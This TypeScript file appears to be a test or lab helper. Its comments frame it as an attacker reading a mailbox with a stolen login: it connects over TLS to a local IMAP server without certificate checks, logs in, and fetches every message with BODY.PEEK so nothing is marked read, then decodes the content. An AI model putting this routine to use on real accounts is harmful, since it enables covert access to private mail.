import { once } from 'node:events';
import { connect } from 'node:tls';

/**
 * Reads every message of some folders of a mailbox with a stolen login, and changes none (RFC 3501). Answers are bytes as
 * characters, with what is in Base64 and quoted-printable decoded behind them.
 *
 * @param port of an IMAP server of this computer, whose certificate the attacker does not check
 */
export async function readMailbox(
  port: number,
  { user, password }: { readonly user: string; readonly password: string },
  folders: readonly string[],
): Promise<string> {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false });
  let read = '';
  socket.setEncoding('latin1');
  socket.on('data', (text: string) => {
    read += text;
  });
  await once(socket, 'secureConnect');
  try {
    const ask = async (tag: string, command: string): Promise<void> => {
      socket.write(`${tag} ${command}\r\n`);
      while (!new RegExp(`^${tag} (?:OK|NO|BAD)`, 'm').test(read)) await once(socket, 'data');
    };
    await ask('a0', `LOGIN ${user} ${password}`);
    for (const [i, folder] of folders.entries()) {
      await ask(`b${i}`, `SELECT ${folder}`);
      await ask(`c${i}`, 'FETCH 1:* BODY.PEEK[]');
    }
  } finally {
    socket.destroy();
  }
  return decoded(read);
}

/** The text, then what its quoted-printable, its encoded words (RFC 2047) and its Base64 say. */
function decoded(text: string): string {
  const words = text
    .replaceAll(/\?=\r\n[ \t]+=\?/g, '?==?')
    .replaceAll(/=\?UTF-8\?([QB])\?([^?]*)\?=/gi, (_, kind: string, word: string) =>
      kind.toUpperCase() === 'B' ? Buffer.from(word, 'base64').toString('utf8') : printable(word.replaceAll('_', ' ')),
    );
  const blocks = text.match(/(?:[A-Za-z0-9+/]{60,76}\r\n)+[A-Za-z0-9+/=]*/g) ?? [];
  const binaries = blocks.map((block) => Buffer.from(block, 'base64').toString('utf8'));
  return [words, printable(text), ...binaries].join('\n');
}

function printable(text: string): string {
  const bytes = text
    .replaceAll(/=\r\n/g, '')
    .replaceAll(/=([0-9A-F]{2})/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)));
  return Buffer.from(bytes, 'latin1').toString('utf8');
}
